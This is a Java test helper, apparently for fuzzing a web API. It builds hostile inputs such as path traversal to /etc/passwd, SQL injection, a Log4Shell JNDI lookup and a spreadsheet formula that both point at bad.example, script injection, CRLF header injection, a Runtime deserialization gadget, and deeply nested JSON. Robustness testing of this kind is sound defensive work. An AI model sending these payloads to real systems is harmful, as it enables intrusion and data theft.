package dk.samspil.local.journey;

import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

/** What somebody sends who means harm or has lost their way; the same again for the same random. */
final class Hostile {

    private static final JsonMapper JSON = JsonMapper.builder().build();

    private static final List<String> TEXTS = List.of(
            "",
            " ",
            "null",
            "\u0000",
            "\u0001\u001f\u007f",
            "a\r\nBcc: alle@bad.example",
            "\u202egnp.exe",
            "\ud83d\ude00\ud83d\ude00",
            "Z\u0351\u036b\u0343\u036a",
            "../../../../etc/passwd",
            "..%2f..%2f",
            "'; drop table calls; --",
            "{\"$gt\":\"\"}",
            "$where",
            "${jndi:ldap://bad.example/a}",
            "<script>alert(1)</script>",
            "=HYPERLINK(\"http://bad.example\")",
            "%",
            "%00",
            "-1",
            "0",
            "9223372036854775808",
            "1e400",
            "NaN",
            "2014-02-30T25:61:61Z",
            "+999999999-12-31T23:59:59Z",
            "z".repeat(26),
            "z".repeat(26) + "-0461",
            "z".repeat(26) + "-" + "z".repeat(26),
            "0461",
            "9999",
            "x".repeat(3_000));

    /** In place of a value of a body, as they are. */
    private static final List<String> VALUES = List.of(
            "null",
            "true",
            "-0",
            "1e400",
            "-1e400",
            "9".repeat(400),
            "0.1e-999999",
            "2147483648",
            "-9223372036854775809",
            "[]",
            "{}",
            "[[[[]]]]",
            "[null]",
            "{\"\":null}",
            "{\"@class\":\"java.lang.Runtime\"}",
            "\"\\u0000\"",
            "\"\\ud800\"",
            "\"\\r\\nBcc: x\"",
            "[".repeat(2_000) + "]".repeat(2_000),
            "{\"a\":".repeat(1_500) + "1" + "}".repeat(1_500),
            "\"" + "ø".repeat(20_000) + "\"");

    private final Random random;

    Hostile(Random random) {
        this.random = random;
    }

    <T> T oneOf(List<T> all) {
        return all.get(random.nextInt(all.size()));
    }

    boolean perhaps(int inHundred) {
        return random.nextInt(100) < inHundred;
    }

    String text() {
        return oneOf(TEXTS);
    }

    /** As part of a path or a query. */
    String encoded() {
        return switch (random.nextInt(8)) {
            case 0 -> "%2e%2e%2f" + random.nextInt();
            case 1 -> "a;b=c";
            case 2 -> "%c0%ae";
            default -> URLEncoder.encode(text(), StandardCharsets.UTF_8).replace("+", "%20");
        };
    }

    /** As the value of a header, which the client lets through. */
    String header() {
        String printable = text().replaceAll("[^\\x20-\\x7e]", "?");
        return perhaps(10) ? "\u00e6\u00f8\u00e5" : printable;
    }

    byte[] body(String valid) {
        return switch (random.nextInt(10)) {
            case 0 -> new byte[0];
            case 1 -> bytes();
            case 2 -> utf8(valid.substring(0, random.nextInt(valid.length() + 1)));
            case 3 -> utf8(oneOf(VALUES));
            case 4 -> utf8(valid);
            case 5 -> utf8(valid).length == 0 ? bytes() : flipped(utf8(valid));
            default -> utf8(mutated(valid));
        };
    }

    /** With something else in one place. */
    private String mutated(String valid) {
        if (valid.isEmpty()) {
            return oneOf(VALUES);
        }
        List<String> pointers = new ArrayList<>();
        collect(JSON.readTree(valid), "", pointers);
        String target = oneOf(pointers);
        return write(JSON.readTree(valid), "", target, oneOf(VALUES));
    }

    private static void collect(JsonNode node, String pointer, List<String> pointers) {
        pointers.add(pointer);
        node.properties().forEach(m -> collect(m.getValue(), pointer + "/" + m.getKey(), pointers));
        if (node.isArray()) {
            for (int i = 0; i < node.size(); i++) {
                collect(node.path(i), pointer + "/" + i, pointers);
            }
        }
    }

    /** By hand, for what comes into it need be no JSON that a library would write. */
    private static String write(JsonNode node, String pointer, String target, String value) {
        if (pointer.equals(target)) {
            return value;
        }
        List<String> parts = new ArrayList<>();
        node.properties()
                .forEach(m -> parts.add(JSON.writeValueAsString(m.getKey()) + ":"
                        + write(m.getValue(), pointer + "/" + m.getKey(), target, value)));
        if (node.isObject()) {
            return "{" + String.join(",", parts) + "}";
        }
        for (int i = 0; node.isArray() && i < node.size(); i++) {
            parts.add(write(node.path(i), pointer + "/" + i, target, value));
        }
        return node.isArray() ? "[" + String.join(",", parts) + "]" : node.toString();
    }

    private byte[] flipped(byte[] bytes) {
        bytes[random.nextInt(bytes.length)] ^= (byte) (1 << random.nextInt(8));
        return bytes;
    }

    private byte[] bytes() {
        byte[] bytes = new byte[random.nextInt(200)];
        random.nextBytes(bytes);
        return bytes;
    }

    private static byte[] utf8(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }
}
